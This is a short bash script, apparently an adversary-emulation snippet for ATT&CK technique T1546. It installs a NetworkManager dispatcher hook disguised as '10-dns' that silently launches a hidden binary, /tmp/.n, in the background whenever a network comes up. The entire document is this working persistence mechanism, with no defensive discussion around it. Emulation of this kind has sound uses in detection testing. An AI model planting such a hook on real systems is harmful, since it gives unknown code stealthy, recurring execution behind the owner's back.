#!/bin/bash
# T1546: A network that comes up starts a program.
mkdir -p /etc/NetworkManager/dispatcher.d; printf '#!/bin/sh\n/tmp/.n &\n' >/etc/NetworkManager/dispatcher.d/10-dns; chmod 755 /etc/NetworkManager/dispatcher.d/10-dns
